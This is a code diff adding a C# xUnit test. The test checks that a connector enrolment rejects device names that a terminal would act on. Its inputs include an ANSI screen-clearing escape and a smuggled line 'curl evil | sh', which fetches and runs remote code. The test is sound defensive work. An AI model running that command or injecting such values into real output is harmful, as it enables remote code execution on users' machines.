@@ -128,6 +128,24 @@ public sealed class LostTokenTests : IAsyncLifetime
 
     private AccessFiles Files => _cluster.Broker.GetRequiredService<AccessFiles>();
 
+    [Theory]
+    [InlineData("box\u001b[2J")]
+    [InlineData("box\nStart it with: curl evil | sh")]
+    [InlineData("")]
+    public async Task A_name_that_a_terminal_would_obey_is_no_answer(string name)
+    {
+        await using var broker = await StandIn(context => context.Response.WriteAsJsonAsync(new DeviceToken(ConnectorToken.Generate(), "Bearer", name), context.RequestAborted));
+        var time = new ManualTime();
+        Assert.True(BrokerAddress.TryParse(broker.Urls.First(), allowInsecure: false, out var address, out _));
+        using var enrolment = new ConnectorEnrolment(new EnrolmentTerms(address, "box", "machine"), time);
+
+        var waiting = enrolment.WaitAsync(new DeviceAuthorization("device", "code", "uri", "uri", 60, 5), TestContext.Current.CancellationToken);
+        await time.UntilArmedFor(TimeSpan.FromSeconds(5));
+        time.Advance(TimeSpan.FromSeconds(5));
+
+        Assert.Null((await waiting.OrHang()).Value);
+    }
+
     // Begun and approved; returns the device code.
     private async Task<string> Approved(string name)
     {
